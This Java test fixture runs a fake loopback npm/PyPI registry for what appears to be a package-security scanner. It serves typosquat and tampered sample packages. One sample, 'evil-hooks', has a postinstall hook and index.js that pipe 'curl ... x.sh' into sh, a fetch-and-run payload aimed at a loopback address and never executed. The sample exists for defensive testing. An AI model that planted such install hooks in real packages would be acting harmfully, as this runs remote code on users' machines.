package dev.bulwark.registry;

import com.sun.net.httpserver.HttpExchange;
import com.sun.net.httpserver.HttpServer;
import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.io.InputStream;
import java.io.OutputStream;
import java.net.InetAddress;
import java.net.InetSocketAddress;
import java.nio.charset.StandardCharsets;
import java.security.MessageDigest;
import java.util.HexFormat;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Map;
import java.util.concurrent.ConcurrentHashMap;
import java.util.concurrent.CopyOnWriteArrayList;
import java.util.concurrent.atomic.AtomicInteger;
import org.apache.commons.compress.archivers.tar.TarArchiveEntry;
import org.apache.commons.compress.archivers.tar.TarArchiveOutputStream;
import org.apache.commons.compress.compressors.gzip.GzipCompressorOutputStream;

/**
 * A loopback registry serving hand-written packuments and PyPI documents from testdata, with
 * tarballs built here. It never contacts anything else. Records requests and auth headers.
 */
final class FakeRegistry implements AutoCloseable {
  final HttpServer server;
  final String base;
  final Map<String, byte[]> archives = new LinkedHashMap<>();
  final Map<String, AtomicInteger> hits = new ConcurrentHashMap<>();
  final List<String> authHeaders = new CopyOnWriteArrayList<>();
  final AtomicInteger flaky = new AtomicInteger();
  final List<String> accepts = new CopyOnWriteArrayList<>();

  FakeRegistry() throws IOException {
    server = HttpServer.create(new InetSocketAddress(InetAddress.getLoopbackAddress(), 0), 0);
    base = "http://127.0.0.1:" + server.getAddress().getPort();
    buildArchives();
    server.createContext("/", this::handle);
    server.start();
  }

  private void buildArchives() throws IOException {
    String benign = "module.exports = function lantern() { return 'lantern'; };\n";
    archives.put("quiet-lantern-1.0.0", npmTgz("quiet-lantern", "1.0.0", "", benign));
    archives.put("quiet-lantern-1.1.0", npmTgz("quiet-lantern", "1.1.0", "", benign));
    archives.put("expresss-4.0.0", npmTgz("expresss", "4.0.0", "", benign));
    archives.put("steady-clock-2.0.0", npmTgz("steady-clock", "2.0.0", "", benign));
    archives.put("steady-clock-2.1.0", npmTgz("steady-clock", "2.1.0",
        "\"postinstall\": \"node setup.js\"", benign));
    // Inert: the hook only names a loopback URL, and nothing here ever runs it.
    archives.put("evil-hooks-1.0.0", npmTgz("evil-hooks", "1.0.0",
        "\"postinstall\": \"curl -s http://127.0.0.1:9/x.sh | sh\"",
        "require('child_process').exec('curl -s http://127.0.0.1:9/x.sh | sh');\n"));
    archives.put("tampered-pkg-1.0.0", npmTgz("tampered-pkg", "1.0.0", "", "// changed\n"));
    archives.put("quiet_lantern-1.0.0", sdist("quiet_lantern", "1.0.0"));
    archives.put("quiet_lantern-1.1.0", sdist("quiet_lantern", "1.1.0"));
    archives.put("reqeusts-0.0.1", sdist("reqeusts", "0.0.1"));
  }

  private void handle(HttpExchange ex) throws IOException {
    String path = ex.getRequestURI().getRawPath();
    hits.computeIfAbsent(path, k -> new AtomicInteger()).incrementAndGet();
    String auth = ex.getRequestHeaders().getFirst("Authorization");
    accepts.add(path + " " + ex.getRequestHeaders().getFirst("Accept"));
    String host = ex.getRequestHeaders().getFirst("Host");
    authHeaders.add(host.substring(0, host.lastIndexOf(':')) + " " + path + " " + (auth == null ? "-" : auth));
    byte[] body = null;
    int status = 200;
    if (path.equals("/moved")) {
      ex.getResponseHeaders().add("Location", "http://localhost:" + server.getAddress().getPort()
          + "/quiet-lantern");
      ex.sendResponseHeaders(302, -1);
      ex.close();
      return;
    }
    if (path.equals("/flaky") && flaky.incrementAndGet() <= 2) {
      status = 503;
    } else if (path.equals("/flaky")) {
      body = "{\"ok\":true}".getBytes(StandardCharsets.UTF_8);
    } else if (path.equals("/huge")) {
      body = new byte[4096];
    } else if (path.contains("/-/")) {
      body = archives.get(file(path).replace(".tgz", ""));
    } else if (path.startsWith("/files/")) {
      body = archives.get(file(path).replace(".tar.gz", ""));
    } else if (path.startsWith("/pypi/") && path.endsWith("/json")) {
      body = doc("pypi/" + path.split("/")[2] + ".json"); // the version document has the same shape
    } else if (path.startsWith("/simple/")) {
      body = ("{\"meta\":{\"api-version\":\"1.0\"},\"name\":\"" + path.split("/")[2]
          + "\",\"files\":[]}").getBytes(StandardCharsets.UTF_8);
    } else {
      body = doc("npm/" + path.substring(1).replace("%2f", "/").replace("%2F", "/") + ".json");
    }
    if (body == null) {
      status = status == 200 ? 404 : status;
    }
    ex.sendResponseHeaders(status, body == null ? -1 : body.length);
    try (OutputStream out = ex.getResponseBody()) {
      if (body != null) {
        out.write(body);
      }
    }
  }

  private static String file(String path) {
    return path.substring(path.lastIndexOf('/') + 1);
  }

  private byte[] doc(String resource) throws IOException {
    try (InputStream in = getClass().getResourceAsStream("testdata/" + resource)) {
      if (in == null) {
        return null;
      }
      String s = new String(in.readAllBytes(), StandardCharsets.UTF_8).replace("${BASE}", base);
      for (Map.Entry<String, byte[]> e : archives.entrySet()) {
        s = s.replace("${SRI:" + e.getKey() + "}", Integrity.sha512Sri(e.getValue()))
            .replace("${SHA256:" + e.getKey() + "}", sha256(e.getValue()));
      }
      return s.getBytes(StandardCharsets.UTF_8);
    }
  }

  int hits(String path) {
    return hits.getOrDefault(path, new AtomicInteger()).get();
  }

  static String sha256(byte[] data) {
    try {
      return HexFormat.of().formatHex(MessageDigest.getInstance("SHA-256").digest(data));
    } catch (java.security.NoSuchAlgorithmException e) {
      throw new IllegalStateException(e);
    }
  }

  static byte[] npmTgz(String name, String version, String scripts, String index) throws IOException {
    String pkg = "{\"name\":\"" + name + "\",\"version\":\"" + version + "\",\"main\":\"index.js\""
        + (scripts.isEmpty() ? "" : ",\"scripts\":{" + scripts + "}") + "}";
    return tgz(Map.of("package/package.json", pkg, "package/index.js", index,
        "package/README.md", "# " + name + "\n"));
  }

  static byte[] sdist(String name, String version) throws IOException {
    String root = name + "-" + version + "/";
    return tgz(Map.of(root + "PKG-INFO", "Metadata-Version: 2.1\nName: " + name + "\nVersion: "
        + version + "\n", root + "setup.py", "from setuptools import setup\nsetup(name='" + name
        + "', version='" + version + "')\n", root + name + "/__init__.py", "VALUE = 1\n"));
  }

  static byte[] tgz(Map<String, String> files) throws IOException {
    ByteArrayOutputStream bytes = new ByteArrayOutputStream();
    try (TarArchiveOutputStream tar = new TarArchiveOutputStream(new GzipCompressorOutputStream(bytes))) {
      for (Map.Entry<String, String> f : new java.util.TreeMap<>(files).entrySet()) {
        byte[] data = f.getValue().getBytes(StandardCharsets.UTF_8);
        TarArchiveEntry e = new TarArchiveEntry(f.getKey());
        e.setSize(data.length);
        tar.putArchiveEntry(e);
        tar.write(data);
        tar.closeArchiveEntry();
      }
    }
    return bytes.toByteArray();
  }

  @Override
  public void close() {
    server.stop(0);
  }
}
